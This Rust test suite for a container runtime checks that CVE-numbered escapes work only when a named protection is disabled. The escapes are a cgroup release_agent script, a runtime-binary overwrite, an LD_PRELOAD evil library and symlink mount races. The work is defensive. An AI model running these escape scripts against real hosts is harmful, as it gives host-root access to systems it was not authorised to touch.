//! Attacks that need the right moment, or something of the host's that a single run does not touch, against an agent with one wall less, as in
//! `weakened.rs`. Where luck would decide, the agent gives the attacker time (`pause-…` in `BERTH_WEAKEN`): with all walls that changes nothing.

use crate::escapes::{evil_library, program};
use crate::harness::{Node, eventually, image, runtimes};
use std::fs;
use std::path::Path;
use std::process::Command;

const IDLE: &str = "while :; do sleep 1; done";

/// The next agent has these walls, and takes these breaks.
fn with(node: &mut Node, list: &str) {
    node.set_env("BERTH_WEAKEN", Some(list).filter(|list| !list.is_empty()));
    node.restart();
}

/// The attack comes to nothing with all walls, however much time it has, and works without these.
fn works_without(name: &str, pause: &str, walls: &str, attack: impl Fn(&Node) -> bool) {
    let mut node = Node::with_busybox(name);
    with(&mut node, pause);
    assert!(!attack(&node), "it works with all walls");
    with(&mut node, &format!("{pause},{walls}"));
    assert!(attack(&node), "without {walls} it does not work: this test would see nothing");
    with(&mut node, "");
    node.finish();
}

fn attacks() -> String {
    format!("{}:/escape:ro", program().display())
}

/// What a container printed that attacks for some seconds while `meanwhile` runs.
fn during(node: &Node, options: &[&str], attack: &str, meanwhile: impl FnOnce()) -> String {
    let attacks = attacks();
    let id = node.detached(&[options, &["-v", &attacks]].concat(), &format!("{attack}; echo it has ended; {IDLE}"));
    meanwhile();
    let output = eventually("the attack ends", || {
        Some(node.ok(&["logs", &id])).filter(|output| output.contains("it has ended"))
    });
    node.ok(&["rm", "-f", &id]);
    output
}

fn is_looked_into(node: &Node, options: &[&str]) -> bool {
    let options = [&["--name", "watched"], options].concat();
    let seen = during(node, &options, "/escape watch 4", || {
        for _ in 0..12 {
            node.ok(&["exec", "watched", "/bin/true"]);
        }
    });
    // Its memory is open for writing, or it is in the hand of a tracer: what it does from there on it does with the host's rights.
    ["mem", "traced"].iter().any(|how| seen.contains(&format!("{how} /memfd:berth-shim")))
}

/// CVE-2016-9962: by its own root, whose rights it has by then.
#[test]
fn what_joins_is_looked_into() {
    works_without("weak-dumpable", "pause-joining", "dumpable", |node| is_looked_into(node, &["--userns", "host"]));
}

/// The same from a user namespace, with the right to look into others.
#[test]
fn what_joins_is_traced() {
    works_without("weak-dumpable-ptrace", "pause-joining", "dumpable", |node| {
        is_looked_into(node, &["--cap-add", "SYS_PTRACE"])
    });
}

/// CVE-2019-5736: once nothing of it runs, it is written to, and is the attacker's for the next who joins.
#[test]
fn the_program_that_joins_is_overwritten() {
    let mut node = Node::with_busybox("weak-sealed");
    let mut attack = |walls: &str| {
        with(&mut node, walls);
        let script =
            "printf '#!/proc/self/exe\\n' >/tmp/trap; chmod 755 /tmp/trap; /escape overwrite 15; echo it has ended";
        let attacks = attacks();
        node.detached(&["--name", "writer", "--userns", "host", "-v", &attacks], &format!("{script}; {IDLE}"));
        // The next agent's is not what holds this container.
        with(&mut node, walls);
        // The trap runs the program for a moment; the attacker has to see it by then.
        for _ in 0..150 {
            let _ = node.ctl(&["exec", "writer", "/tmp/trap"]);
            if node.ok(&["logs", "writer"]).contains("berth-shim") {
                break;
            }
        }
        let output = eventually("the attack ends", || {
            Some(node.ok(&["logs", "writer"])).filter(|output| output.contains("it has ended"))
        });
        let next = node.ctl(&["exec", "writer", "/bin/true"]);
        let overwritten = output.lines().any(|l| l.starts_with("overwrote") && l.contains("berth-shim"));
        assert_eq!(overwritten, next.code != 0, "{output}{next:?}");
        node.ok(&["rm", "-f", "writer"]);
        overwritten
    };
    assert!(!attack(""), "it works with all walls");
    assert!(attack("sealed"), "it does not work: this test would see nothing");
    with(&mut node, "");
    node.finish();
}

/// CVE-2019-14271
#[test]
fn a_library_of_the_container_is_loaded_by_a_copy() {
    works_without("weak-library", "", "library", |node| {
        let (evil, breach) = evil_library(node);
        let share = format!("{}:/evil.so:ro", evil.display());
        let script = format!("mkdir -p /lib; cp /evil.so /lib/libnss_files.so.2; touch /ready; {IDLE}");
        node.detached(&["--name", "trap", "-v", &share], &script);
        crate::harness::until("it is set", || node.ctl(&["exec", "trap", "test", "-e", "/ready"]).code == 0);
        node.ok(&["cp", "trap:/etc/passwd", &node.scratch().join("out").display().to_string()]);
        node.ok(&["rm", "-f", "trap"]);
        breach.exists()
    });
}

/// CVE-2025-23266: a variable of the container's in the environment of a vendor's hook, which is a program of the host's.
#[test]
fn a_hook_has_the_containers_environment() {
    for (runtime, _) in runtimes::there() {
        let name = format!("weak-hooks-{runtime}");
        let folder = crate::harness::test_dir().join(&name);
        let _ = fs::remove_dir_all(&folder);
        fs::create_dir_all(&folder).expect("folder");
        let spec = "cdiVersion: \"0.6.0\"\nkind: berth.test/hooked\ndevices:\n- name: a\n  containerEdits:\n    \
            hooks: [{hookName: createContainer, path: /bin/true, args: [vendor-hook], env: [VENDOR=v]}]\n";
        fs::write(folder.join("vendor.yaml"), spec).expect("spec");
        let mut node = Node::builder(&name).containers(&format!("cdi_dirs = [\"{}\"]", folder.display())).start();
        node.ok(&["pull", "-q", &image("busybox")]);
        let (evil, breach) = evil_library(&node);
        // The same path on both sides: hooks of this kind look with the container's eyes.
        let share = format!("{0}:{0}:ro", evil.display());
        let preload = format!("LD_PRELOAD={}", evil.display());
        let attack = |node: &Node| {
            let options = [
                "--runtime",
                runtime,
                "--userns",
                "host",
                "--device",
                "berth.test/hooked=a",
                "-v",
                &share,
                "-e",
                &preload,
            ];
            assert_eq!(node.sh(&options, "echo $LD_PRELOAD"), evil.display().to_string());
            breach.exists()
        };
        assert!(!attack(&node), "{runtime}: it works with all walls");
        with(&mut node, "hooks");
        assert!(attack(&node), "{runtime}: it does not work: this test would see nothing");
        node.finish();
        fs::remove_dir_all(&folder).expect("remove");
    }
}

/// A switch of the whole host's that changes nothing here: how long the kernel waits for who holds a lease. Set back when dropped.
struct Switch(String);

const SWITCH: &str = "/proc/sys/fs/lease-break-time";

impl Switch {
    fn now() -> String {
        fs::read_to_string(SWITCH).expect("lease-break-time").trim().to_owned()
    }
}

impl Drop for Switch {
    fn drop(&mut self) {
        let _ = fs::write(SWITCH, &self.0);
    }
}

/// CVE-2022-0811, CVE-2022-0532: a sysctl that is no namespace's.
#[test]
fn a_sysctl_changes_the_host() {
    let before = Switch(Switch::now());
    let other = if before.0 == "44" { "43" } else { "44" };
    works_without("weak-sysctls", "", "sysctls", |node| {
        let _ = node.sh_output(&["--userns", "host", "--sysctl", &format!("fs.lease-break-time={other}")], "true");
        Switch::now() == other
    });
    // A user namespace is a wall of its own.
    let _ = fs::write(SWITCH, &before.0);
    let mut node = Node::with_busybox("weak-sysctls-users");
    with(&mut node, "sysctls");
    let output = node.sh_output(&["--sysctl", &format!("fs.lease-break-time={other}")], "true");
    assert!(output.code == 125 && output.stderr.contains("lease-break-time"), "{output:?}");
    assert_eq!(Switch::now(), before.0);
    node.finish();
}

/// A hierarchy of groups that nothing else uses: nobody's helper is taken away by an attack on it. Every process is in its root, as in those
/// that an engine has no groups in.
struct Hierarchy {
    name: String,
    at: std::path::PathBuf,
}

impl Hierarchy {
    fn new(at: &Path) -> Hierarchy {
        fs::create_dir_all(at).expect("folder");
        let name = format!("berth-attack-{}", std::process::id());
        let options = format!("none,name={name}");
        let status = Command::new("mount").args(["-t", "cgroup", "-o", &options, "none"]).arg(at).status();
        assert!(status.expect("mount").success(), "mounting a hierarchy of v1");
        Hierarchy { name, at: at.to_owned() }
    }
}

impl Drop for Hierarchy {
    fn drop(&mut self) {
        let _ = fs::remove_dir(self.at.join("attack"));
        let _ = Command::new("umount").arg(&self.at).status();
    }
}

/// CVE-2022-0492: the kernel runs a program of the container's as root of the host when a group is empty.
#[test]
fn the_kernel_runs_a_program_of_the_containers() {
    let mut node = Node::with_busybox("weak-release-agent");
    let hierarchy = Hierarchy::new(&node.scratch().join("groups"));
    let (program, breach) = (node.scratch().join("program"), node.scratch().join("breach"));
    fs::write(&program, format!("#!/bin/sh\nid -u >{}\n", breach.display())).expect("program");
    fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("program");
    let script = format!(
        "mkdir /tmp/c; mount -t cgroup -o none,name={} none /tmp/c && mkdir -p /tmp/c/attack && echo {} >/tmp/c/release_agent && \
         echo 1 >/tmp/c/attack/notify_on_release && sh -c 'echo 0 >/tmp/c/attack/cgroup.procs' && echo set",
        hierarchy.name,
        program.display()
    );
    let attack = |node: &Node, users: &str| {
        let output = node.sh_output(&["--userns", users], &script);
        let begun = std::time::Instant::now();
        while output.stdout.contains("set") && !breach.exists() && begun.elapsed().as_secs() < 10 {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        breach.exists()
    };
    assert!(!attack(&node, "host"), "it works with all walls");
    // Each wall is enough.
    for walls in ["capabilities", "seccomp"] {
        with(&mut node, walls);
        assert!(!attack(&node, "host"), "it works without {walls}");
    }
    with(&mut node, "capabilities,seccomp");
    assert!(!attack(&node, "auto"), "a user namespace is a wall of its own");
    assert!(attack(&node, "host"), "it does not work: this test would see nothing");
    with(&mut node, "");
    drop(hierarchy);
    node.finish();
}

/// CVE-2024-23652: what is removed behind a container is a link to the host's.
#[test]
fn a_link_in_what_is_removed_leads_to_the_host() {
    works_without("weak-removal", "", "removal", |node| {
        let victim = node.scratch().join("victim");
        fs::create_dir_all(victim.join("below")).expect("victim");
        fs::write(victim.join("kept"), "the host's").expect("kept");
        node.sh(&["-v", "doomed:/v"], &format!("mkdir /v/folder && ln -s {} /v/folder/link", victim.display()));
        let _ = node.ctl(&["volume", "rm", "doomed"]);
        let begun = std::time::Instant::now();
        while victim.join("kept").exists() && begun.elapsed().as_secs() < 3 {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let removed = !victim.join("kept").exists();
        assert_eq!(removed, !victim.join("below").exists());
        removed
    });
}

/// CVE-2023-0778: what is exported is looked at, and is a link when it is opened.
#[test]
fn a_link_in_what_is_exported_leads_to_the_host() {
    works_without("weak-packing", "pause-packing", "packing", |node| {
        let victim = node.scratch().join("victim");
        fs::create_dir_all(&victim).expect("victim");
        fs::write(victim.join("kept"), "the host's\n").expect("kept");
        let (setup, tar) = (format!("mkdir /s/a; ln -s {} /s/b", victim.display()), node.scratch().join("tar"));
        is_raced(node, &setup, || {
            let output = node.ctl(&["volume", "export", "shared", "-o", &tar.display().to_string()]);
            let text = fs::read(&tar).unwrap_or_default();
            assert!(output.code != 0 || text.windows(7).any(|w| w == b"./ready"), "{output:?}");
            text.windows(11).any(|w| w == b"the host's\n")
        })
    });
}

/// Whether a container that starts while two names change places ends where the attacker wants it, in so many attempts.
fn is_raced(node: &Node, setup: &str, start: impl Fn() -> bool) -> bool {
    let (attacks, script) = (attacks(), format!("{setup}; touch /s/ready; /escape flip /s/a /s/b 120"));
    node.detached(&["--name", "flipper", "-v", "shared:/s", "-v", &attacks], &script);
    crate::harness::until("it flips", || node.ctl(&["exec", "flipper", "test", "-e", "/s/ready"]).code == 0);
    let led_out = (0..40).any(|_| start());
    node.ok(&["rm", "-f", "flipper"]);
    node.ok(&["volume", "rm", "shared"]);
    led_out
}

/// CVE-2021-30465: the place of a mount is looked at, and is another one when it is mounted there.
#[test]
fn a_mounts_place_changes_behind_the_look() {
    works_without("weak-race", "pause-mounting", "race", |node| {
        node.sh(&["-v", "payload:/p"], "echo the attacker >/p/mark");
        let raced = is_raced(node, "mkdir /s/a; ln -s /proc/sys/net /s/b", || {
            let look = "cat /proc/sys/net/mark";
            node.sh_output(&["-v", "shared:/s", "-v", "payload:/s/a"], look).stdout == "the attacker\n"
        });
        node.ok(&["volume", "rm", "payload"]);
        raced
    });
}

/// CVE-2021-30465, CVE-2021-25741, CVE-2024-23651: the same with what is mounted.
#[test]
fn a_mounts_source_changes_behind_the_look() {
    works_without("weak-race-source", "pause-mounting", "race", |node| {
        let victim = node.scratch().join("victim");
        fs::create_dir_all(&victim).expect("victim");
        fs::write(victim.join("secret"), "the host's\n").expect("secret");
        let mount = "type=volume,source=shared,target=/x,volume-subpath=a";
        is_raced(node, &format!("mkdir /s/a; ln -s {} /s/b", victim.display()), || {
            node.sh_output(&["--mount", mount], "cat /x/secret").stdout == "the host's\n"
        })
    });
}
